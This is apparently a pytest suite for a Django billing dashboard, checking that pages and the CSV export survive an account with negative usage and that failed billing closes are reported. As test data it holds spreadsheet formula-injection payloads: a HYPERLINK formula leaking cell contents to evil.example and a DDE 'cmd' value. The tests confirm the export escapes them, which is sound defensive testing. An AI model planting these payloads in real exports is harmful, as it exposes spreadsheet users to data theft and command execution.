"""Pages with one account's usage planted negative (legacy data): every list, page and export still
renders for everyone, the bad account's rows say why they could not be computed, and a failed close
is shown until a later close clears it. The CSV export keeps formula-like text as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import timezone

from billing_admin.service import call
from dashboard.selectors.invoices import InvoiceRow
from dashboard.views.invoices import csv_lines
from tests.billing_admin.engine.money_helpers import plant_negative_usage, repair_usage
from tests.dashboard import factories

pytestmark = pytest.mark.django_db
FEB_10 = datetime(2026, 2, 10, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def bad_neighbour(billed, actor):
    """Beside acc_987 (billed): acc_bad, named like a formula, on the same plan since Jan 2026, with
    usage in February and now, both totals planted negative."""
    call("create_account", {"id": "acc_bad", "name": HYPERLINK, "customerId": "cust_123", "invoiceCurrency": "USD"},
         actor=actor)  # fmt: skip
    call("update_account", {"accountId": "acc_bad", "pricePlanId": billed.plan_id,
                            "effectiveFrom": factories.JAN.isoformat()}, actor=actor)  # fmt: skip
    factories.ingest(actor, "acc_bad", 10, FEB_10, event_id="bad-feb")
    factories.ingest(actor, "acc_bad", 10, timezone.now(), event_id="bad-now")
    plant_negative_usage("acc_bad", FEB_10)
    plant_negative_usage("acc_bad", timezone.now())
    return billed


def close_cycles() -> CommandError | None:
    try:
        call_command("close_cycles", "--as-of", "2026-03-01T00:00:00+00:00", stdout=io.StringIO(),
                     stderr=io.StringIO())  # fmt: skip
    except CommandError as exc:
        return exc
    return None


def exported(client) -> list[dict[str, str]]:
    response = client.get(reverse("dashboard:invoice-export"))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_invoice_list_renders_everyone_and_says_which_draft_could_not_be_computed(viewer, bad_neighbour):
    response = viewer.get(reverse("dashboard:invoice-list"))
    assert response.status_code == 200
    page = response.content.decode()
    assert bad_neighbour.due_invoice in page and "$189.00" in page
    assert "could not be computed</a>" in page and 'title="usage of account acc_bad in the' in page


def test_the_bad_accounts_page_renders_and_says_its_charges_could_not_be_computed(viewer, bad_neighbour):
    response = viewer.get(reverse("dashboard:account-detail", args=["acc_bad"]))
    assert response.status_code == 200
    assert "Could not be computed" in response.content.decode()


def test_the_bad_drafts_invoice_page_says_why_instead_of_failing(viewer, bad_neighbour, actor):
    drafts = call("list_invoices", {"accountId": "acc_bad", "status": "DRAFT", "pageSize": 200}, actor=actor).data
    failing = next(i for i in drafts if i.computationError)
    response = viewer.get(reverse("dashboard:invoice-detail", args=[failing.id]))
    assert response.status_code == 200
    assert "These charges could not be computed" in response.content.decode()


def test_the_csv_export_streams_every_row_and_leaves_the_failed_total_empty(viewer, bad_neighbour, actor):
    rows = exported(viewer)
    listed = call("list_invoices", {"pageSize": 200}, actor=actor).data
    assert {r["Invoice"] for r in rows} == {i.id for i in listed}
    failed = [r for r in rows if r["Problem"]]
    assert failed and all(r["Total"] == "" and r["Account id"] == "acc_bad" for r in failed)
    assert next(r for r in rows if r["Invoice"] == bad_neighbour.due_invoice)["Total"] == "189.00"


def test_the_csv_export_keeps_a_formula_like_account_name_as_text(viewer, bad_neighbour):
    names = {r["Account"] for r in exported(viewer) if r["Account id"] == "acc_bad"}
    assert names == {"'" + HYPERLINK}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_text_cells_while_amounts_stay_numbers(start):
    row = InvoiceRow(
        id="inv_1", status="DUE", currency="USD", total=Decimal("-12.50"), paid=Decimal("0"),
        invoice_date=factories.FEB, due_date=None, start_date=factories.JAN, end_date=factories.FEB,
        account_id="acc_1", account_name=f"{start}1+2", customer_id="cust_1", customer_name=f"{start}cmd|' /C calc'!A0",
    )  # fmt: skip
    [_, line] = list(csv.reader(io.StringIO("".join(csv_lines([row])))))
    assert line[5] == f"'{start}1+2" and line[3] == f"'{start}cmd|' /C calc'!A0"
    assert (line[11], line[12]) == ("-12.50", "0.00")


def test_a_failed_close_is_shown_on_the_overview_and_the_account_page(viewer, bad_neighbour):
    assert close_cycles() is not None
    overview = viewer.get(reverse("dashboard:overview")).content.decode()
    assert 'id="close-failures"' in overview and "cycle Feb 1 – Mar 1, 2026" in overview
    assert "1 billing cycle could not be closed" in overview
    assert "quantity must be 0 or more" in overview
    page = viewer.get(reverse("dashboard:account-detail", args=["acc_bad"])).content.decode()
    assert 'id="close-failures"' in page
    other = viewer.get(reverse("dashboard:account-detail", args=["acc_987"])).content.decode()
    assert 'id="close-failures"' not in other


def test_a_later_successful_close_clears_the_notice(viewer, bad_neighbour):
    close_cycles()
    repair_usage("acc_bad")
    assert close_cycles() is None
    assert 'id="close-failures"' not in viewer.get(reverse("dashboard:overview")).content.decode()


def test_the_overview_counts_every_failure_even_past_the_ones_it_lists(bad_neighbour, actor):
    from dashboard.selectors.overview import close_failures

    call("create_account", {"id": "acc_bad_2", "name": "Also bad", "customerId": "cust_123", "invoiceCurrency": "USD"},
         actor=actor)  # fmt: skip
    call("update_account", {"accountId": "acc_bad_2", "pricePlanId": bad_neighbour.plan_id,
                            "effectiveFrom": factories.JAN.isoformat()}, actor=actor)  # fmt: skip
    factories.ingest(actor, "acc_bad_2", 10, FEB_10, event_id="bad-2-feb")
    plant_negative_usage("acc_bad_2", FEB_10)
    close_cycles()
    shown, count = close_failures(limit=1)
    assert len(shown) == 1 and count == 2
